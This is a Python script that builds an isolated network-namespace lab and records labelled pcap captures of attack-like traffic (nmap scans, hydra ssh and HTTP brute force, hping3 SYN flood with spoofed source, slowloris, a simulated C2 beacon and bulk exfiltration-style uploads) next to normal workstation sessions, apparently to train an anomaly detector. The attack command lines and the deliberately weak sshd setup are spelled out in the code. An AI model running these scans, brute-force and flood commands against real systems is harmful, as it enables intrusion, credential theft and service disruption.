#!/usr/bin/env python3
"""The attack lab: attack-like traffic next to normal traffic on a small LAN of network namespaces.

  sudo nice -n 10 /usr/bin/python3 models/anomaly/lab.py --slot 6 --out /work/data/anomaly/lab/a1 --seed 1

Topology (lab slot K, K = 6 or 7; other lab users take slots 0-5). The traffic lab's Slot (models/lab/netns.py)
gives the client, relay and server namespaces; the client namespace becomes a switch (bridge br0) to which
one namespace per host is attached, so every host reaches the servers through the lab's relay (delay, jitter):

  labKh1..labKh6 (hosts) -> [labKc: br0] c0 <-> r0 [labKr: relay.py] r1 <-> s0 [labKs: servers]

  10.77.K.11-13  three normal workstations (web, TLS and ssh sessions of the traffic lab's own clients)
  10.77.K.66     the attacker: nmap scans, hydra brute force (ssh, http basic auth, http form), slowloris
  10.77.K.77     a workstation that also beacons to 10.77.K.8 every --beacon-every seconds (+-10%)
  10.77.K.88     a workstation that also uploads tens of MB to 10.77.K.9, a peer no other host talks to
  10.77.K.200    address the SYN flood spoofs (no host has it: the server's SYN+ACKs go nowhere)
  10.77.K.1      sshd :22 (public key for the workstations, passwords allowed for hydra), nginx :80 and :443
  10.77.K.8      nginx :80, the beacon target; 10.77.K.9 Python HTTPS upload sink :443

Each scenario is one capture, taken on the server namespace's s0 (headers only, -s 128), with the three normal
workstations busy all through it: SCENARIO.pcap and SCENARIO.json (what ran, when, and which flows are the
attack's: `attack` = {"client_ip": [...], "server_ip": [...] or absent}). Only addresses inside these
namespaces are used; everything is removed on exit, also after an error or SIGTERM.
"""
import argparse
import json
import os
import random
import signal
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
LAB = os.path.join(os.path.dirname(HERE), "lab")
sys.path.insert(0, LAB)

from netns import Slot, sh  # noqa: E402
from pki import ensure_pki  # noqa: E402
from services.ssh import Ssh  # noqa: E402
from services.web import Http, Tls  # noqa: E402

SESSION_TIMEOUT_S = 40
WORDS = ["password", "123456", "letmein", "qwerty", "admin", "welcome", "dragon", "monkey", "master", "sunshine"]

SCENARIOS = ["normal", "scan", "bruteforce-ssh", "bruteforce-http", "beacon", "upload", "synflood", "slowloris"]


def nsx(ns):
    return ["ip", "netns", "exec", ns]


class Ctx:
    """What the traffic lab's services need to prepare content and build client sessions (see lab.py Ctx)."""

    def __init__(self, work, sip, pki):
        self.work, self.sip, self.pki, self.lab = work, sip, pki, LAB
        os.makedirs(work, exist_ok=True)


class Lan:
    def __init__(self, k, work):
        self.k = k
        self.slot = Slot(k)
        self.net = f"10.77.{k}"
        self.server = f"{self.net}.1"
        self.c2 = f"{self.net}.8"
        self.rare = f"{self.net}.9"
        self.spoofed = f"{self.net}.200"
        self.hosts = {"h1": f"{self.net}.11", "h2": f"{self.net}.12", "h3": f"{self.net}.13",
                      "h4": f"{self.net}.66", "h5": f"{self.net}.77", "h6": f"{self.net}.88"}
        self.work = work
        self.procs = []

    def ns(self, h):
        return f"lab{self.k}{h}"

    def create(self):
        self.destroy()
        s = self.slot
        s.create()
        c = nsx(s.cns)
        sh(*c, "ip", "addr", "flush", "dev", "c0")
        sh(*c, "ip", "link", "add", "br0", "type", "bridge")
        sh(*c, "ip", "link", "set", "c0", "master", "br0")
        sh(*c, "ip", "link", "set", "br0", "up")
        for i, (h, ip) in enumerate(self.hosts.items()):
            n = self.ns(h)
            sh("ip", "netns", "add", n)
            sh("ip", "link", "add", "eth0", "netns", n, "type", "veth", "peer", "name", f"p{i}", "netns", s.cns)
            sh(*nsx(n), "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1", "net.ipv6.conf.default.disable_ipv6=1")
            for ns_, dev in ((n, "eth0"), (s.cns, f"p{i}")):
                sh(*nsx(ns_), "ethtool", "-K", dev, "tx", "off", "rx", "off", "tso", "off", "gso", "off", "gro", "off",
                   check=False)
                sh(*nsx(ns_), "ip", "link", "set", dev, "up")
            sh(*c, "ip", "link", "set", f"p{i}", "master", "br0")
            sh(*nsx(n), "ip", "link", "set", "lo", "up")
            sh(*nsx(n), "ip", "addr", "add", f"{ip}/24", "dev", "eth0")
        for extra in (self.c2, self.rare):
            sh(*nsx(s.sns), "ip", "addr", "add", f"{extra}/24", "dev", "s0")
        # A fixed, mild path: 4 ms one way with 1 ms jitter, no loss (the lab's relay; this kernel has no netem).
        s.relay = subprocess.Popen(nsx(s.rns) + [sys.executable, os.path.join(LAB, "relay.py"), "--a", "r0", "--b", "r1",
                                                 "--delay-ms", "4", "--jitter-ms", "1", "--seed", str(self.k),
                                                 "--max-seconds", "7200"],
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(0.5)

    def destroy(self):
        for p in self.procs:
            if p.poll() is None:
                p.kill()
                p.wait()
        self.procs = []
        existing = sh("ip", "netns", "list", check=False).stdout.split()
        for h in self.hosts:
            n = self.ns(h)
            if n in existing:
                self.slot.kill_ns_procs(n)
                sh("ip", "netns", "del", n, check=False)
        self.slot.destroy()

    def srv(self, argv, log):
        p = subprocess.Popen(nsx(self.slot.sns) + argv, stdout=subprocess.DEVNULL, stderr=open(log, "ab"))
        self.procs.append(p)
        return p


def start_servers(lan, pki, ctxs):
    """nginx (.1:80 with the lab's web content plus /admin (basic auth), /login (a form that always fails),
    /upload; .1:443 TLS; .8:80 the beacon endpoint), sshd on .1:22, the upload sink on .9:443."""
    w = lan.work
    os.makedirs(os.path.join(w, "tmp"), exist_ok=True)
    pw = subprocess.run(["openssl", "passwd", "-apr1", "s3cret-not-in-any-list"], capture_output=True, text=True,
                        check=True).stdout.strip()
    with open(os.path.join(w, "htpasswd"), "w") as f:
        f.write(f"admin:{pw}\n")
    key, crt = pki["rsa2048"]["key"], pki["rsa2048"]["chain"]
    conf = f"""
worker_processes 1; pid {w}/nginx.pid; error_log {w}/nginx-error.log; user www-data;
events {{ worker_connections 2048; }}
http {{
  access_log off; client_body_temp_path {w}/tmp; proxy_temp_path {w}/tmp; fastcgi_temp_path {w}/tmp;
  uwsgi_temp_path {w}/tmp; scgi_temp_path {w}/tmp; default_type application/octet-stream; keepalive_requests 100;
  server {{ listen {lan.server}:80; root {ctxs['http'].work}/www; location / {{ try_files $uri $uri/ =404; }}
           location /upload {{ return 201; }}
           location /admin {{ auth_basic "admin"; auth_basic_user_file {w}/htpasswd; try_files $uri =404; }}
           location = /login {{ default_type text/html; return 200 "<html>invalid user or password</html>"; }} }}
  server {{ listen {lan.server}:443 ssl http2; ssl_certificate {crt}; ssl_certificate_key {key};
           root {ctxs['tls'].work}/www; location / {{ try_files $uri $uri/ =404; }} }}
  server {{ listen {lan.c2}:80; location /b/ {{ default_type application/json; return 200 '{{"task":"sleep","t":60}}'; }} }}
}}
"""
    with open(os.path.join(w, "nginx.conf"), "w") as f:
        f.write(conf)
    lan.srv(["nginx", "-c", os.path.join(w, "nginx.conf"), "-g", "daemon off;"], os.path.join(w, "nginx.log"))
    sw = ctxs["ssh"].work
    sshd = f"""ListenAddress {lan.server}
Port 22
HostKey {sw}/host_ed25519
PidFile {w}/sshd.pid
AuthorizedKeysFile {sw}/authorized_keys
PermitRootLogin yes
PasswordAuthentication yes
MaxAuthTries 6
MaxStartups 100:30:200
StrictModes no
UsePAM no
UseDNS no
Subsystem sftp internal-sftp
"""
    with open(os.path.join(w, "sshd_config"), "w") as f:
        f.write(sshd)
    os.makedirs("/run/sshd", exist_ok=True)
    lan.srv(["/usr/sbin/sshd", "-D", "-e", "-f", os.path.join(w, "sshd_config")], os.path.join(w, "sshd.log"))
    lan.srv([sys.executable, os.path.join(HERE, "upload_sink.py"), lan.rare, "443", crt, key], os.path.join(w, "sink.log"))
    for port, ip in ((80, lan.server), (443, lan.server), (22, lan.server), (80, lan.c2), (443, lan.rare)):
        if not wait_listen(lan, ip, port):
            raise RuntimeError(f"server {ip}:{port} did not start (see {w}/*.log)")


def wait_listen(lan, ip, port, limit=30.0):
    end = time.monotonic() + limit
    while time.monotonic() < end:
        r = sh(*nsx(lan.slot.sns), "ss", "-Htln", f"src {ip}:{port}", check=False)
        if r.stdout.strip():
            return True
        time.sleep(0.2)
    return False


def run_in(ns, argv, timeout=SESSION_TIMEOUT_S, env=None):
    try:
        r = subprocess.run(nsx(ns) + argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=timeout, env=env)
        return r.returncode
    except subprocess.TimeoutExpired:
        return -9


class Workstation(threading.Thread):
    """A normal host: the traffic lab's own web, TLS and ssh client sessions, with think times between them."""

    def __init__(self, lan, h, ctxs, services, rng, stop, mean_gap=2.0):
        super().__init__(daemon=True)
        self.lan, self.h, self.ctxs, self.services, self.rng, self.stop = lan, h, ctxs, services, rng, stop
        self.mean_gap = mean_gap
        self.sessions = 0
        self.failed = 0

    def run(self):
        env = dict(os.environ, HOME=os.path.join(self.lan.work, f"home-{self.h}"))
        os.makedirs(env["HOME"], exist_ok=True)
        while not self.stop.is_set():
            name = self.rng.choices(["http", "tls", "ssh"], weights=[4, 5, 2])[0]
            svc, ctx = self.services[name], self.ctxs[name]
            argv = svc.client(ctx, self.rng, svc.opts)
            rc = run_in(self.lan.ns(self.h), argv, env=env)
            self.sessions += 1
            self.failed += rc != 0
            self.stop.wait(min(self.rng.expovariate(1 / self.mean_gap), 10.0))


def beacon(lan, rng, stop, every, log):
    n = 0
    while not stop.is_set():
        url = f"http://{lan.c2}/b/{rng.getrandbits(32):08x}?seq={n}"
        run_in(lan.ns("h5"), ["curl", "-s", "-o", "/dev/null", "-A", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", url],
               timeout=15)
        n += 1
        stop.wait(every * rng.uniform(0.9, 1.1))
    log(f"beacon: {n} requests")


def scenario_commands(lan, name, args):
    """Attack commands of a scenario: (namespace host, argv, timeout) run one after another."""
    w = lan.work
    pw = os.path.join(w, "passwords.txt")
    s = lan.server
    if name == "scan":
        return [("h4", ["nmap", "-n", "-Pn", "-sS", "-T4", "--max-rate", "300", "-p", "1-1024", s], 300),
                ("h4", ["nmap", "-n", "-Pn", "-sT", "-T4", "--max-rate", "200", "--top-ports", "300", s], 300),
                ("h4", ["nmap", "-n", "-Pn", "-sV", "--version-light", "-p", "22,80,443", s], 300)]
    # hydra as its documentation has it: 16 parallel tasks by default (`hydra -h`: "-t TASKS ... (default: 16)"),
    # and for SSH the 4 that hydra itself tells its user to use ("[WARNING] Many SSH configurations limit the number
    # of parallel tasks, it is recommended to reduce the tasks: use -t 4"). hydra's ssh module tries passwords on one
    # connection until sshd closes it (MaxAuthTries 6, sshd's default); its http modules open one connection per guess.
    if name == "bruteforce-ssh":
        return [("h4", ["hydra", "-I", "-q", "-t", "4", "-l", "root", "-P", pw, f"ssh://{s}"], 600),
                ("h4", ["hydra", "-I", "-q", "-t", "4", "-l", "admin", "-P", pw, f"ssh://{s}"], 600)]
    if name == "bruteforce-http":
        return [("h4", ["hydra", "-I", "-q", "-l", "admin", "-P", pw, f"http-get://{s}/admin"], 600),
                ("h4", ["hydra", "-I", "-q", "-l", "admin", "-P", pw, s, "http-post-form",
                        "/login:user=^USER^&pass=^PASS^:F=invalid"], 600)]
    if name == "synflood":
        return [("h4", ["hping3", "-q", "-S", "-p", "80", "-a", lan.spoofed, "-i", "u1000", "-c", str(args.syn_count), s], 120)]
    if name == "slowloris":
        return [("h4", ["slowhttptest", "-H", "-c", str(args.slow_conns), "-r", "50", "-i", "10", "-l", "100", "-x", "24",
                        "-p", "3", "-u", f"http://{s}/index.html"], 200)]
    if name == "upload":
        cmds = []
        for i in range(args.uploads):
            mb = 20 + 10 * i
            f = os.path.join(w, f"upload{i}.bin")
            if not os.path.exists(f):
                with open(f, "wb") as fh:
                    fh.write(os.urandom(mb * 1_000_000))
            cmds.append(("h6", ["curl", "-s", "-k", "-o", "/dev/null", "-T", f, f"https://{lan.rare}/upload/{i}"], 300))
            cmds.append(("sleep", [str(20)], 0))
        return cmds
    return []


def attack_truth(lan, name):
    if name == "synflood":
        return {"client_ip": [lan.spoofed]}
    if name == "beacon":
        return {"client_ip": [lan.hosts["h5"]], "server_ip": [lan.c2]}
    if name == "upload":
        return {"client_ip": [lan.hosts["h6"]], "server_ip": [lan.rare]}
    if name == "normal":
        return None
    return {"client_ip": [lan.hosts["h4"]]}


def run_scenario(lan, name, args, ctxs, services, rng, log):
    out = os.path.join(args.out, f"{name}.pcap")
    meta = {"scenario": name, "slot": lan.k, "seed": args.seed, "hosts": lan.hosts, "server": lan.server,
            "beacon_target": lan.c2, "rare_peer": lan.rare, "spoofed": lan.spoofed, "attack": attack_truth(lan, name),
            "commands": []}
    cap = subprocess.Popen(nsx(lan.slot.sns) + ["tcpdump", "-i", "s0", "-s", "128", "-Z", "root", "-U", "-w", out, "tcp"],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(1.0)
    stop = threading.Event()
    ws = [Workstation(lan, h, ctxs, services, random.Random(rng.getrandbits(32)), stop) for h in ("h1", "h2", "h3")]
    extra = []
    if name in ("beacon", "upload"):
        # The beaconing and the uploading host are workstations too: their normal sessions are not the attack's.
        h = "h5" if name == "beacon" else "h6"
        ws.append(Workstation(lan, h, ctxs, services, random.Random(rng.getrandbits(32)), stop, mean_gap=8.0))
    for t in ws:
        t.start()
    if name == "beacon":
        extra.append(threading.Thread(target=beacon, args=(lan, random.Random(rng.getrandbits(32)), stop,
                                                           args.beacon_every, log), daemon=True))
        extra[-1].start()
    t0 = time.time()
    meta["start"] = t0
    time.sleep(5)
    for h, argv, timeout in scenario_commands(lan, name, args):
        if h == "sleep":
            time.sleep(float(argv[0]))
            continue
        c0 = time.time()
        rc = run_in(lan.ns(h), argv, timeout=timeout)
        meta["commands"].append({"host": h, "argv": argv, "rc": rc, "seconds": round(time.time() - c0, 1)})
        log(f"{name}: {' '.join(argv[:6])}... rc={rc} ({time.time() - c0:.0f}s)")
    while time.time() - t0 < args.min_seconds:
        time.sleep(1)
    stop.set()
    for t in ws + extra:
        t.join(SESSION_TIMEOUT_S + 5)
    meta["workstations"] = {t.h: {"sessions": t.sessions, "failed": t.failed} for t in ws}
    meta["end"] = time.time()
    time.sleep(2)
    cap.send_signal(signal.SIGINT)
    try:
        cap.wait(10)
    except subprocess.TimeoutExpired:
        cap.kill()
    with open(os.path.join(args.out, f"{name}.json"), "w") as f:
        json.dump(meta, f, indent=1, sort_keys=True)
    log(f"{name}: done in {meta['end'] - t0:.0f}s, workstations {meta['workstations']}")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--slot", type=int, default=6, choices=[6, 7])
    ap.add_argument("--out", required=True)
    ap.add_argument("--scenarios", default=",".join(SCENARIOS))
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--min-seconds", type=float, default=120, help="shortest scenario (normal traffic runs all through)")
    ap.add_argument("--beacon-every", type=float, default=6.0)
    ap.add_argument("--syn-count", type=int, default=3000)
    ap.add_argument("--slow-conns", type=int, default=150)
    ap.add_argument("--uploads", type=int, default=4)
    ap.add_argument("--work", default=None)
    args = ap.parse_args()
    if os.geteuid() != 0:
        sys.exit("lab.py needs root (network namespaces, tcpdump): run it with sudo")
    names = args.scenarios.split(",")
    bad = [n for n in names if n not in SCENARIOS]
    if bad:
        sys.exit(f"unknown scenarios {bad}; known: {','.join(SCENARIOS)}")
    os.makedirs(args.out, exist_ok=True)
    work = args.work or f"/tmp/sensor-anomaly-lab/slot{args.slot}"
    os.makedirs(work, exist_ok=True)
    logf = open(os.path.join(args.out, "lab.log"), "a")

    def log(msg):
        line = time.strftime("%H:%M:%S ") + msg
        print(line, flush=True)
        logf.write(line + "\n")
        logf.flush()

    with open(os.path.join(work, "passwords.txt"), "w") as f:
        rng0 = random.Random(args.seed)
        f.write("\n".join(WORDS + [f"{rng0.choice(WORDS)}{rng0.randrange(10000)}" for _ in range(110)]) + "\n")
    pki = ensure_pki(os.path.join(work, "pki"))
    lan = Lan(args.slot, work)
    stopping = []

    def on_signal(signum, _frame):
        stopping.append(signum)
        raise KeyboardInterrupt

    signal.signal(signal.SIGTERM, on_signal)
    rng = random.Random(args.seed)
    try:
        lan.create()
        ctxs = {n: Ctx(os.path.join(work, n), lan.server, pki) for n in ("http", "tls", "ssh")}
        services = {"http": Http(), "tls": Tls(), "ssh": Ssh()}
        for n, svc in services.items():
            svc.prepare(ctxs[n])
            svc.opts = svc.server_options(random.Random(1))
        start_servers(lan, pki, ctxs)
        for name in names:
            if stopping:
                break
            run_scenario(lan, name, args, ctxs, services, rng, log)
    except KeyboardInterrupt:
        log(f"stopped by signal {stopping}")
    finally:
        lan.destroy()


if __name__ == "__main__":
    main()
